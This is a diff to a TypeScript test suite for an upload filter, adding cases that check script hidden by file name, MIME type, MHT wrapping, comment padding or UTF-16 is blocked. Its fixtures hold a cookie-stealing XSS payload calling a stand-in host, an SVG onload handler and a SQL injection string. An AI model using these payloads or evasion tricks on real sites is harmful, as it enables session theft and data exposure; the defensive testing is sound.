@@ -72,6 +72,29 @@ describe('file_upload', () => {
     expect(upload('filename="a.dat"', content, type)).toBe('block');
   });
 
+  const script = '<script>fetch("//evil.test/?"+document.cookie)</script>';
+  const handler = '<svg onload="alert(1)"/>';
+  test.each([
+    ['a page by its name', 'notes.html', `hello ${script}`, 'text/plain'],
+    ['a page by its type', 'notes.txt', `hello ${script}`, 'application/xhtml+xml'],
+    ['a page by how it begins', 'notes', `<!doctype html>${script}`, 'application/octet-stream'],
+    ['a page in an archive of mails', 'notes.mht', `MIME-Version: 1.0\n\n${script}`, 'message/rfc822'],
+    ['an image behind a long comment', 'logo.svg', `<!--${'-'.repeat(2000)}-->${handler}`, 'image/svg+xml'],
+    ['an image in UTF-16', 'logo.svg', wide(handler), 'image/svg+xml'],
+  ])('blocks script in %s', (_what, name, content, type) => {
+    expect(upload(`filename="${name}"`, content, type)).toBe('block');
+  });
+
+  // Nobody runs these as they are; operators store dumps, logs and tables.
+  test.each(['notes.txt', 'dump.sql', 'table.csv', 'thread.md'])(
+    'passes what somebody wrote about an attack in %s',
+    (name) => {
+      expect(
+        upload(`filename="${name}"`, `1' UNION SELECT password FROM users-- ${script}`, 'text/plain'),
+      ).toBe('pass');
+    },
+  );
+
   test.each([
     ['an image', png, 'image/png'],
     ['a page', '<!doctype html><title>x</title>', 'text/html'],
@@ -88,3 +111,6 @@ describe('file_upload', () => {
     expect(upload(`filename*=UTF-8''a%2ephp`, 'x')).toBe('block');
   });
 });
+
+/** UTF-16 with its mark, as Notepad writes it. */
+const wide = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le').toString('latin1');
